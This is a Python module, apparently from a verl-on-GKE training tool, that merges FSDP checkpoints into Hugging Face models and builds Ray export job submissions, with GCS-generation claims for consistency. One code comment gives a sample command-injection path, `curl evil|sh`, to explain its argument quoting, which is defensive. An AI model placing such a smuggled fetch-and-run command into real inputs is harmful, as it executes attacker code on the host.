"""The trained model in Hugging Face format: verl's own merger over one FSDP checkpoint.

Picks the step (by default the newest whose model is in the bucket), runs `python -m verl.model_merger
merge --backend fsdp` with the run's own verl into a folder of its own, and renames it to the target
only when complete. With `--bucket`, one export of a run at a time (a claim by GCS generation) over
shards at the generations the step's marker names. Runs on CPU (about 4 bytes a parameter of memory);
stdlib only at import time.

    python -m workloads.export_model --checkpoint-dir /data/verl/checkpoints/<run> --target-dir /data/models/<run>/model
"""

from __future__ import annotations

import argparse
import functools
import hashlib
import io
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import uuid
import zipfile
from pathlib import Path

try:
    from workloads.gcs import Gcs, PreconditionFailed
except ImportError:  # in the export's Ray job: gcs.py ships beside this file (working_dir_package)
    from gcs import Gcs, PreconditionFailed  # type: ignore[no-redef]

TRACKER = "latest_checkpointed_iteration.txt"
"""verl's record of its newest complete checkpoint, in the checkpoint folder (verl/utils/checkpoint)."""
MODEL_MARKER = ".verl-gke-model-complete.json"
"""In a step's folder once its model is in the bucket (workloads/checkpoints.py, which writes it before the
step's optimizer state is copied, and the tracker after)."""
MARKERS = (MODEL_MARKER, ".verl-gke-complete.json")
"""Either says the model is in the bucket: the complete marker lists the model's files too (and is the only
one verl-gke 0.6.0 wrote)."""
SAVED = ".verl-gke/saved.json"
"""The step's current attempt (workloads/checkpoints.py): a marker counts only when it is that attempt's."""
MERGE_TIMEOUT_S = 4 * 3600.0
"""A 32B model's shards are ~130 GB of fp32 read from the bucket and ~65 GB written back."""
PARTIAL_SUFFIX = ".partial"
CLAIM = ".export.json"
"""`models/<run>/.export.json`: the export of the run that holds it ({export, state}); one at a time."""
POINTER_SUFFIX = ".json"
"""`models/<run>/model.json` beside the model: which export published it, its step and the generations it merged;
`replacing` while an export replaces the folder (or was cut doing so)."""
CLAIM_LAPSES_S = MERGE_TIMEOUT_S + 600.0
"""A live claim older than this (by GCS's clock) is a dead export's: no export merges for longer."""


class ExportError(Exception):
    """An export that cannot be made; `str()` says why on one line."""


_RESUME_ONLY = re.compile(r"(^|/)actor/(optim|extra_state)_world_size_\d+_rank_\d+\.pt$")
"""The optimizer state: in the complete marker, never read by the merger."""


def _model_whole(step_dir: Path, marker_name: str, gcs: Gcs | None = None) -> bool:
    """The marker is the step's current attempt's and every file it lists is in the bucket at its size; with
    `gcs`, and at the generation the marker names for it (a marker without generations: verl-gke 0.7.0's)."""
    try:
        attempt = json.loads((step_dir / SAVED).read_text())["attempt"]
        marker = json.loads((step_dir / marker_name).read_text())
        whole = marker["attempt"] == attempt and all(
            (step_dir / name).stat().st_size == size for name, size in marker["files"].items())
        if not whole or gcs is None:
            return whole
        return _changed(gcs, step_dir, marker.get("generations", {})) is None
    except (FileNotFoundError, ValueError, KeyError, TypeError, AttributeError):
        return False  # not there, rotated away meanwhile, or a file gone: not a model to merge
    # Any other OSError (the bucket did not answer) goes up: an older step is never taken for the newest.


def _changed(gcs: Gcs, step_dir: Path, generations: dict[str, int], now: dict[str, int] | None = None) -> str | None:
    """The first file the merger reads (path under `step_dir`) not at the generation named for it; None if none.
    `now`: the generations as read already (object name -> generation), else read now."""
    prefix = gcs.name(step_dir)
    if now is None:
        now = {name: stat.generation for name, stat in gcs.generations(prefix + "/").items()}
    return next((name for name, gen in sorted(generations.items())
                 if name.startswith("actor/") and not _RESUME_ONLY.search(name)
                 and now.get(f"{prefix}/{name}") != gen), None)


def vouched_generations(step_dir: Path) -> dict[str, int] | None:
    """The generations the step's current attempt's marker (the model's, else the complete one) names; {} for a
    marker from before generations were recorded; None when neither is the current attempt's (saved again)."""
    try:
        attempt = json.loads((step_dir / SAVED).read_text())["attempt"]
    except (FileNotFoundError, ValueError, KeyError, TypeError):
        attempt = None
    for name in MARKERS:
        try:
            marker = json.loads((step_dir / name).read_text())
        except (FileNotFoundError, ValueError):
            continue
        if isinstance(marker, dict) and marker.get("attempt") == attempt:
            return marker.get("generations", {})
    return None


def model_steps(checkpoint_dir: Path, gcs: Gcs | None = None) -> list[int]:
    """Steps whose model is in the bucket: a marker (MARKERS) of the step's current attempt, its files whole
    (with `gcs`: at the generations it names)."""
    steps = [int(p.name.removeprefix("global_step_")) for p in checkpoint_dir.glob("global_step_*")
             if p.name.removeprefix("global_step_").isdigit()]
    return sorted(step for step in steps
                  if any(_model_whole(checkpoint_dir / f"global_step_{step}", name, gcs) for name in MARKERS))


def copied_by_verl_gke(step_dir: Path) -> bool:
    """A step the copiers wrote (its records or markers are there): its markers alone say when it is whole."""
    return (step_dir / Path(SAVED).parent).exists() or any((step_dir / name).exists() for name in MARKERS)


def latest_step(checkpoint_dir: Path, gcs: Gcs | None = None) -> int:
    """The newest step whose model is in the bucket: the newest marked one's (model_steps), or verl's tracker's
    where verl wrote the checkpoint straight into the bucket (no records: runs before local saves) and the
    merger's files are there, whichever is newer."""
    tracker = checkpoint_dir / TRACKER
    marked = model_steps(checkpoint_dir, gcs)
    try:
        tracked = int(tracker.read_text().strip())
    except FileNotFoundError:
        tracked = None
    except ValueError:
        raise ExportError(f"{tracker}: not a step number") from None
    if tracked is not None and tracked not in marked and not copied_by_verl_gke(
            checkpoint_dir / f"global_step_{tracked}"):
        try:
            actor_dir(checkpoint_dir, tracked)
            marked.append(tracked)
        except ExportError:
            pass  # not whole: the marked steps stand
    if not marked:
        raise ExportError(f"{tracker}: no checkpoint yet (verl writes it after its first save)" if tracked is None
                          else f"{checkpoint_dir}: no step whose model is whole in the bucket yet (the tracker's "
                               f"step {tracked} is not)")
    return max(marked)


def actor_dir(checkpoint_dir: Path, step: int) -> Path:
    """The FSDP shards of the actor (the policy being trained) at `step`, checked for what the merger reads."""
    actor = checkpoint_dir / f"global_step_{step}" / "actor"
    config = actor / "fsdp_config.json"
    if not config.is_file():
        steps = sorted(p.name for p in checkpoint_dir.glob("global_step_*"))
        raise ExportError(f"{actor}: no FSDP checkpoint at step {step} (have: {', '.join(steps) or 'none'})")
    world_size = json.loads(config.read_text()).get("world_size")
    missing = [f"model_world_size_{world_size}_rank_{r}.pt" for r in range(int(world_size or 0))
               if not (actor / f"model_world_size_{world_size}_rank_{r}.pt").is_file()]
    if not world_size or missing:
        raise ExportError(f"{actor}: incomplete checkpoint (world size {world_size}, missing {', '.join(missing)})")
    if not (actor / "huggingface" / "config.json").is_file():
        raise ExportError(f"{actor}/huggingface/config.json: missing; the merger needs the model's config")
    return actor


def memory_needed(actor: Path) -> int:
    """Bytes the merge holds at once: every model shard loaded, and the merged copy beside them."""
    return 2 * sum(p.stat().st_size for p in actor.glob("model_world_size_*_rank_*.pt"))


def memory_limit() -> int:
    """What this process may use: the container's cgroup limit, else the machine's memory."""
    for path in ("/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes"):
        try:
            text = Path(path).read_text().strip()
        except OSError:
            continue
        if text.isdigit() and int(text) < 2**60:
            return int(text)
    return os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES")


def merge_command(python: str, actor: Path, target: Path) -> list[str]:
    """verl's merger as its docs give it, for FSDP checkpoints."""
    return [python, "-m", "verl.model_merger", "merge", "--backend", "fsdp",
            "--local_dir", str(actor), "--target_dir", str(target)]


def export(checkpoint_dir: Path, target_dir: Path, step: int | None = None, *, python: str = sys.executable,
           verl_dir: Path | None = None, timeout_s: float = MERGE_TIMEOUT_S,
           memory_bytes: int | None = None, gcs: Gcs | None = None, export_id: str = "",
           claim_lapses_s: float = CLAIM_LAPSES_S) -> Path:
    """Merge the checkpoint at `step` (default: the newest) into `target_dir`; return it.

    `verl_dir` goes first on the merger's path: the run's own verl (the staged wheel), whatever the image has.
    A merge that would not fit `memory_bytes` (default: this container's limit) is refused before it starts,
    rather than killed halfway by the kernel. With `gcs` (the bucket mounted where both paths are), the
    export claims the run (one export at a time), merges only shards at the generations the step's marker
    vouches for, refuses when any changed while it merged, and publishes under its claim (module doc)."""
    export_id = export_id or uuid.uuid4().hex[:12]
    run = target_dir.parent.name
    claim = _claim(gcs, target_dir, export_id, claim_lapses_s) if gcs is not None else None
    partial = target_dir.with_name(f"{target_dir.name}{PARTIAL_SUFFIX}-{export_id}")  # this export's own folder
    try:
        if step is None:
            step = latest_step(checkpoint_dir, gcs)
        elif step not in model_steps(checkpoint_dir, gcs) and copied_by_verl_gke(
                checkpoint_dir / f"global_step_{step}"):
            raise ExportError(f"{checkpoint_dir}/global_step_{step}: step {step}'s model has not been fully copied "
                              "to the bucket (its copy was cut, or is still running); steps that can be exported: "
                              f"{', '.join(map(str, model_steps(checkpoint_dir, gcs))) or 'none'}")
        actor = actor_dir(checkpoint_dir, step)
        need, have = memory_needed(actor), memory_limit() if memory_bytes is None else memory_bytes
        if need > have:
            raise ExportError(f"merging {actor} needs about {need / 1e9:.1f} GB of memory (twice its model shards); "
                              f"this node allows {have / 1e9:.1f} GB: export with --memory-gb {-(-need // 10**9)} so "
                              "Ray runs it on a node with room")
        sources = _sources(gcs, actor) if gcs is not None else {}
        # The marker read after the shards' generations: one still the step's own names the generations read.
        vouched = vouched_generations(actor.parent) if gcs is not None else {}
        if vouched is None and copied_by_verl_gke(actor.parent):
            raise ExportError(f"run {run}: step {step}'s marker is gone or another attempt's (saved again since); "
                              f"export {export_id} publishes nothing")
        if gcs is not None and (late := _changed(gcs, actor.parent, vouched or {}, sources)):
            raise ExportError(f"run {run}: step {step}'s {late} is not the generation its marker vouches for (saved "
                              f"again since); export {export_id} publishes nothing")
        shutil.rmtree(partial, ignore_errors=True)  # this export's own leftovers (a retry of the same id)
        env = dict(os.environ)
        if verl_dir is not None:
            env["PYTHONPATH"] = os.pathsep.join([str(verl_dir), *filter(None, [env.get("PYTHONPATH")])])
        try:
            done = subprocess.run(merge_command(python, actor, partial), env=env, capture_output=True, text=True,
                                  timeout=timeout_s, check=False)
        except subprocess.TimeoutExpired:
            raise ExportError(f"verl's merger did not finish within {timeout_s:g} s on {actor}") from None
        if done.returncode != 0:
            tail = " | ".join((done.stderr or done.stdout).strip().splitlines()[-3:])
            raise ExportError(f"verl's merger failed on {actor} (exit {done.returncode}): {tail}")
        if gcs is not None and claim is not None:
            # A generation is never reused: the same ones after the merge as before mean no shard was written
            # while the merger read it.
            after = _sources(gcs, actor)
            changed = sorted(name for name in set(sources) | set(after) if sources.get(name) != after.get(name))
            if changed:
                raise ExportError(f"run {run}: step {step} was saved again while it was merged ({changed[0]} is "
                                  f"another generation); export {export_id} publishes nothing")
            claim = _hold(gcs, target_dir, claim, export_id, "publishing")
            # The pointer stops vouching for the folder before it changes: an export cut from here on leaves
            # `replacing`, never a pointer to a model the folder no longer holds (read by startFrom's preview).
            _point(gcs, target_dir, export_id, {"replacing": True, "step": step})
        if target_dir.exists():
            shutil.rmtree(target_dir)  # an earlier export of this run, replaced by the newer one
        partial.rename(target_dir)
        if gcs is not None and claim is not None:
            _point(gcs, target_dir, export_id, {"step": step, "sources": sources})
            _hold(gcs, target_dir, claim, export_id, "released")
            claim = None
        return target_dir
    except BaseException:
        shutil.rmtree(partial, ignore_errors=True)
        if gcs is not None and claim is not None:
            try:
                _hold(gcs, target_dir, claim, export_id, "released")
            except (OSError, ExportError):
                pass  # the claim lapses (CLAIM_LAPSES_S)
        raise


def _point(gcs: Gcs, target_dir: Path, export_id: str, fields: dict[str, object]) -> None:
    """Write the run's model.json as `export_id`'s, over the generation it holds now."""
    pointer = gcs.name(target_dir) + POINTER_SUFFIX
    current = gcs.stat(pointer)
    try:
        gcs.write_json(pointer, {"export": export_id, "folder": gcs.name(target_dir), **fields},
                       current.generation if current else 0)
    except PreconditionFailed:
        raise ExportError(f"run {target_dir.parent.name}: another export wrote {pointer} meanwhile (it took over "
                          f"this export's claim); export {export_id} reports no success") from None


def _claim(gcs: Gcs, target_dir: Path, export_id: str, lapses_s: float) -> int:
    """Claim the run's exports for `export_id` (ifGenerationMatch: of two claimants exactly one writes it);
    the claim's generation. Refused while another export's claim is live and younger than `lapses_s`."""
    name = f"{gcs.name(target_dir.parent)}/{CLAIM}"
    run = target_dir.parent.name
    held = gcs.read_json(name)
    if held is not None and held[0].get("state") != "released" and held[0].get("export") != export_id:
        age = gcs.age_s(name)
        if age is None or age < lapses_s:
            raise ExportError(f"run {run}: export {held[0].get('export')} of this run is live (its claim {name}, "
                              f"{age or 0:.0f} s old; taken over once {lapses_s:.0f} s old); export {export_id} "
                              "refuses and publishes nothing")
    try:
        return gcs.write_json(name, {"export": export_id, "state": "live"}, held[1] if held else 0)
    except PreconditionFailed:
        raise ExportError(f"run {run}: another export of this run claimed it first (its claim {name}); "
                          f"export {export_id} refuses and publishes nothing") from None


def _hold(gcs: Gcs, target_dir: Path, generation: int, export_id: str, state: str) -> int:
    """Rewrite this export's claim with `state`, only if still the generation it wrote (a lapsed claim taken
    over by another export fails here: this one then publishes nothing)."""
    name = f"{gcs.name(target_dir.parent)}/{CLAIM}"
    try:
        return gcs.write_json(name, {"export": export_id, "state": state}, generation)
    except PreconditionFailed:
        raise ExportError(f"run {target_dir.parent.name}: another export took over this export's claim {name} "
                          f"(export {export_id} outlived it); export {export_id} publishes nothing") from None


def _sources(gcs: Gcs, actor: Path) -> dict[str, int]:
    """What the merger reads (the actor's files but the optimizer state), object name -> generation."""
    return {name: stat.generation for name, stat in gcs.generations(gcs.name(actor) + "/").items()
            if not _RESUME_ONLY.search(name)}


MOUNT_PREFIX = "/data"
"""Where every Ray pod mounts the bucket (domain.bucket.MOUNT_PATH; workloads import no domain)."""


MODELS_DIR = "models"
"""Where exported models go under the bucket, one folder per run: a prefix the Ray pods may write (domain.bucket)."""


def model_path(run_id: str, step: int | None = None) -> str:
    """The model's folder under the bucket: `models/<run>/model` for the run's final model,
    `models/<run>/model-step-<N>` for an export of step N, so an older step never replaces the final model."""
    return f"{MODELS_DIR}/{run_id}/model" if step is None else f"{MODELS_DIR}/{run_id}/model-step-{step}"


SUBMISSION_PREFIX = "verl-export-"
"""Every export's Ray submission id starts so (a run's final model, or `verl-gke export --step N`)."""


def submission(*, run_id: str, checkpoint_dir: str, step: int | None, working_dir: str,
               memory_bytes: int | None = None, mount: str = MOUNT_PREFIX, verl_dir: str | None = None,
               python: str = "python", bucket: str = "", id_suffix: str = "") -> dict:
    """Keyword arguments of Ray's `JobSubmissionClient.submit_job` for the export of `run_id`'s checkpoint.

    The job's driver runs on the head (no entrypoint resources: Ray starts drivers there), a CPU node on
    A4 and A3 Ultra; with `memory_bytes`, Ray places it on a node with that much memory free instead (a GPU
    worker while they are up: a 32B model's merge needs some 260 GB). `working_dir` holds this file; `mount` is
    where the nodes mount the bucket; `verl_dir` a verl to put first on the merger's path (default: the head's,
    which the RayCluster's environment already puts there); `python` the interpreter with verl's dependencies
    (the image's); `bucket` the bucket's name, for the export's claim and publication through the JSON API;
    `id_suffix` goes at the end of the submission id (which the export's claim names)."""
    target = f"{mount}/{model_path(run_id, step)}"
    submission_id = f"{SUBMISSION_PREFIX}{run_id}-{'final' if step is None else f'step-{step}'}{id_suffix}"
    args = [python, "export_model.py", "--checkpoint-dir", checkpoint_dir, "--target-dir", target]
    if step is not None:
        args += ["--step", str(step)]
    if verl_dir:
        args += ["--verl-dir", verl_dir]
    if bucket:
        args += ["--bucket", bucket, "--mount", mount, "--export-id", submission_id]
    kwargs: dict = {
        # Ray runs the entrypoint with a shell: each argument quoted, so a path from an outputs file
        # (`gs://b/x;curl evil|sh;#`) stays a path.
        "entrypoint": shlex.join(args),
        "submission_id": submission_id,
        "runtime_env": {"working_dir": working_dir},
        "metadata": {"verl_gke_export": target},
    }
    if memory_bytes:
        kwargs["entrypoint_memory"] = memory_bytes
        kwargs["entrypoint_num_cpus"] = 1
    return kwargs


@functools.cache
def working_dir_package() -> tuple[str, bytes]:
    """This file and gcs.py as a Ray working_dir package: a zip with them at the top (Ray unpacks a gcs://
    zip without removing a top folder) named as Ray names its packages, `_ray_pkg_<sha1 of the zip>.zip`
    (ray/_private/runtime_env/packaging.py get_uri_for_package). Fixed timestamps make the name
    depend on the content only."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in (Path(__file__), Path(__file__).with_name("gcs.py")):
            entry = zipfile.ZipInfo(path.name, date_time=(1980, 1, 1, 0, 0, 0))
            entry.external_attr = 0o644 << 16
            archive.writestr(entry, path.read_bytes(), zipfile.ZIP_DEFLATED)
    data = buffer.getvalue()
    return f"_ray_pkg_{hashlib.sha1(data).hexdigest()}.zip", data


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="export_model", description=__doc__.split("\n\n")[0])
    parser.add_argument("--checkpoint-dir", type=Path, required=True, help="the run's checkpoint folder")
    parser.add_argument("--target-dir", type=Path, required=True, help="where the Hugging Face model goes")
    parser.add_argument("--step", type=int, default=None, help="checkpoint step (default: the newest)")
    parser.add_argument("--verl-dir", type=Path, default=None, help="the run's verl, first on the merger's path")
    parser.add_argument("--bucket", default="", help="the bucket's name: claim and publish through the JSON API")
    parser.add_argument("--mount", default=MOUNT_PREFIX, help="where the bucket is mounted (default /data)")
    parser.add_argument("--export-id", default="", help="this export's id in its claim (its Ray submission id)")
    args = parser.parse_args(argv)
    gcs = Gcs.in_pod(args.bucket, args.mount) if args.bucket else None
    try:
        target = export(args.checkpoint_dir, args.target_dir, args.step, verl_dir=args.verl_dir,  # this python
                        gcs=gcs, export_id=args.export_id)
    except (ExportError, OSError) as error:  # OSError: the bucket did not answer (its claim lapses)
        print(f"export_model: {error}", file=sys.stderr)
        return 1
    print(f"export_model: {target}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
